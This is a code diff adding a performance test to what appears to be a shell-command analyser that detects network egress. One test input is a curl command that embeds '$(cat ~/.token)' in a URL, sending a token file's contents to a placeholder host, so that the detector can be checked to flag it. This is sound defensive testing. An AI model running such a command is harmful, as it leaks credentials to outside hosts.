@@ -688,3 +688,14 @@ def test_a_long_hyphenated_audience_is_read_at_once() -> None:
     assert EVERYBODY.match("all" + "-ab" * 25 + "!") is None
     assert EVERYBODY.match("team-" * 5000 + "all@lists.example.org")
     assert time.perf_counter() - start < 0.5
+
+
+def test_a_long_url_argument_is_read_for_substitutions_at_once() -> None:
+    """A curl argument of many ``://`` (a pasted redirect chain) is looked through once for a command's
+    output in a URL, not once from each ``://`` to the end."""
+    import time
+
+    start = time.perf_counter()
+    assert C.EGRESS not in analyse('curl -s "' + "://a/" * 3800 + '"').capabilities
+    assert time.perf_counter() - start < 0.1
+    assert C.EGRESS in analyse('curl -s "' + "://a/" * 3800 + '?t=$(cat ~/.token)"').capabilities
